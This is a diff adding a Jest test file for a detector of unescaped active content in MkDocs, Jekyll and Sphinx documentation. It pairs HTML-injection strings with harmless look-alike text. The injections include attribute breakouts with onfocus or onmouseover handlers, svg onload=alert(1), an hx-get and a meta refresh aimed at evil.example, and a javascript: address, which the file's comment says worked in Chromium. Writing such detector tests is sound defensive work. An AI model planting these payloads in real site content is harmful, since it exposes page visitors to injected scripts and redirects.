@@ -1,0 +1,202 @@
+// Text that themes print without escaping it: each attack stands beside the nearest honest text. All attacks were built with
+// MkDocs, Jekyll or Sphinx and did in Chromium what they say.
+import { describe, expect, test } from '@jest/globals'
+import type { ActiveForm } from '../../../src/checks/active-content/active-forms.ts'
+import { findActiveContentInFile } from '../../../src/checks/active-content/files.ts'
+import { type DialectName, formsIn } from './dialects.ts'
+
+type Pair = [title: string, dialects: DialectName[], form: ActiveForm, attack: string, honest: string]
+
+const MARKDOWN: DialectName[] = ['mkdocs', 'jekyll', 'plain', 'sphinx']
+
+const ATTRIBUTES: Pair[] = [
+  [
+    'a heading that adds a handler to the list of contents',
+    MARKDOWN,
+    'handler',
+    '# A\n\n## B x" onfocus="document.title=1" autofocus tabindex="0\n',
+    '# A\n\n## The "foo" option and `"type=module"`\n',
+  ],
+  [
+    'a heading whose handler is written with emphasis',
+    MARKDOWN,
+    'handler',
+    'A x" on**mouse**over="document.title=1\n===\n',
+    'Set a="**b**"\n===\n',
+  ],
+  [
+    'a heading in an admonition',
+    ['mkdocs'],
+    'handler',
+    '!!! note\n    ## B x" onfocus="document.title=1\n',
+    '!!! note\n    ## B x="1"\n',
+  ],
+  [
+    'a label for the list of contents',
+    ['mkdocs'],
+    'handler',
+    `## B { data-toc-label='x" onfocus="document.title=1' }\n`,
+    '## B { #b .c }\n',
+  ],
+  [
+    'an image in a heading, whose text some generators leave out',
+    ['mkdocs'],
+    'handler',
+    '# A\n\n## B x" on![y](z.png)focus="document.title=1\n',
+    '# A\n\n## B ![y "z"](z.png)\n',
+  ],
+  [
+    'a heading that makes a library run something',
+    MARKDOWN,
+    'handler',
+    `# A ' hx-get='https://evil.example\n`,
+    "# Don't use the `hx-get` attribute, 'foo' or a='b'\n",
+  ],
+  [
+    'a heading that leads readers elsewhere',
+    MARKDOWN,
+    'style',
+    '# A x" href="https://evil.example\n',
+    '# The "href" attribute, `src` and "style"\n',
+  ],
+  [
+    'a description that refreshes the page',
+    MARKDOWN,
+    'style',
+    `---\ndescription: '0;url=https://evil.example" http-equiv="refresh'\n---\n# A\n`,
+    `---\ndescription: 'The "http-equiv" attribute; it''s "old"'\n---\n# A\n`,
+  ],
+  [
+    'a title that adds a handler to the links of its neighbours',
+    MARKDOWN,
+    'handler',
+    `---\ntitle: About x" onmouseover="document.title=1\n---\n# A\n`,
+    `---\ntitle: About "onmouseover" and onclick\n---\n# A\n`,
+  ],
+  [
+    'a field at the top of reStructuredText',
+    ['rst'],
+    'handler',
+    '.. Comment\n   of two lines\n\n:author: x\n\n   ``" autofocus onfocus="document.title=1``\n\nA\n=\n',
+    ':author: Ada "The Countess" Lovelace\n:date: 2020\n\nA\n=\n',
+  ],
+]
+
+const TAGS: Pair[] = [
+  [
+    'an attribute of a tag in the code of a heading',
+    ['mkdocs', 'jekyll'],
+    'style',
+    '# A\n\n## B `<b id="x" href="https://evil.example">`\n',
+    '# A\n\n## B <span id="x" class="y">z</span>\n',
+  ],
+  [
+    'an attribute of what a backslash makes text of',
+    ['jekyll'],
+    'style',
+    '# A\n\n## B \\<b id="x" href="https://evil.example">\n',
+    '# A\n\n<h2 class="y">B <a id="x" href="#z"></a></h2>\n',
+  ],
+]
+
+const SEARCH: Pair[] = [
+  [
+    'HTML in inline code of a heading that the search shows',
+    ['sphinx'],
+    'handler',
+    '# Sign-on with `<svg onload=alert(1)>`\n',
+    '# Use `List<String>` and `<your-name>`\n',
+  ],
+  [
+    'HTML that a heading spells with references',
+    ['sphinx'],
+    'handler',
+    '# Sign-on with &lt;svg onload=alert(1)&gt;\n',
+    '# Use List&lt;String&gt;\n',
+  ],
+  [
+    'HTML in a title',
+    ['rst'],
+    'handler',
+    'A <svg onload=alert(1)>\n-----------------------\n',
+    'A ``<T>``\n---------\n',
+  ],
+  [
+    'HTML with a handler from a substitution',
+    ['rst'],
+    'handler',
+    'A <svg |x|>\n-----------\n\n.. |x| replace:: onload=alert(1)\n',
+    'A |x| <y>\n-----------\n\n.. |x| replace:: z\n',
+  ],
+  [
+    'HTML with an escape in the name of a handler',
+    ['rst'],
+    'handler',
+    'A <svg on\\ load=alert(1)>\n-------------------------\n',
+    'A\\ B <x>\n--------\n',
+  ],
+  [
+    'the title of an admonition',
+    ['rst'],
+    'handler',
+    '.. admonition:: A <svg\n   onload=x>\n\n   B\n',
+    '.. admonition:: A <B>\n\n   C\n',
+  ],
+  [
+    'the title of an admonition in MyST',
+    ['sphinx'],
+    'handler',
+    ':::{admonition} A `<svg onload=x>`\nB\n:::\n',
+    ':::{admonition} A `<B>`\nC\n:::\n',
+  ],
+  [
+    'the caption of a list of pages',
+    ['rst'],
+    'handler',
+    '.. toctree::\n   :caption: A <svg onload=x>\n\n   b\n',
+    '.. toctree::\n   :caption: A <B>\n\n   c\n',
+  ],
+  [
+    'a handler behind the text of an index role',
+    ['sphinx'],
+    'handler',
+    '# {index}`A <b onclick=x>`\n',
+    '# {index}`On-the-job search <single: On-the-job search>`\n',
+  ],
+]
+
+describe('Text that themes print as it is', () => {
+  test.each([...ATTRIBUTES, ...TAGS, ...SEARCH])(
+    '%s is found, and honest text is not',
+    (_title, dialects, form, attack, honest) => {
+      for (const dialect of dialects) {
+        expect([dialect, formsIn(dialect, attack)]).toEqual([dialect, expect.arrayContaining([form])])
+        expect([dialect, formsIn(dialect, honest)]).toEqual([dialect, []])
+      }
+    },
+  )
+
+  test.each<DialectName>(['vitepress', 'docusaurus', 'mdbook', 'hugo'])(
+    '%s escapes a quote in a heading',
+    (dialect) => {
+      expect(formsIn(dialect, '# A\n\n## B x" onfocus="document.title=1\n')).toEqual([])
+    },
+  )
+
+  test('A field of reStructuredText that only a theme knows needs a precedent, and its address runs nothing', () => {
+    expect(formsIn('rst', ':github_url: https://evil.example\n\nA\n=\n')).toEqual(['unknown-field'])
+    expect(formsIn('rst', ':author: javascript:alert(1)\n\nA\n=\n')).toEqual(['script-address'])
+    expect(formsIn('rst', 'A\n=\n\n:parameter: x\n')).toEqual([])
+  })
+
+  test('A heading of reStructuredText that no literal block has is a heading', () => {
+    expect(formsIn('rst', 'A::\n\n   <svg onload=x>\n   --------------\n')).toEqual([])
+  })
+
+  test('A value in a data file that leaves an attribute is found', () => {
+    expect(findActiveContentInFile('_data/a.yml', `a: '0" http-equiv="refresh'\n`).map(({ form }) => form)).toEqual([
+      'handler',
+    ])
+    expect(findActiveContentInFile('_data/a.yml', `a: 'The "http-equiv" attribute'\n`)).toEqual([])
+  })
+})
